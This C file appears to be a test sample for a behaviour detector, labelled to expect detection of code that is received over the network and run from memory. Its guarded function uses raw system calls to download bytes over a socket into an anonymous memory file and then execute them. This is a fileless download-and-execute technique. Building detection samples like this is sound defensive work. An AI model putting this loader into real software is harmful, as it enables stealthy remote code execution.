/* What is received is started from memory, by numbers of system calls in a program without the loader.
 * expect: native-received-runs-from-memory
 * flags: -O2 -static
 */
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(void) {
    char bytes[4096], *none[] = {0};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80)};
    int s = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
    syscall(SYS_connect, s, &to, sizeof to);
    int f = syscall(SYS_memfd_create, "", 1);
    for (long n; (n = syscall(SYS_read, s, bytes, sizeof bytes)) > 0;)
        syscall(SYS_write, f, bytes, n);
    return syscall(SYS_execveat, f, "", none, none, 0x1000);
}

int main(void) { return never ? act() : 0; }
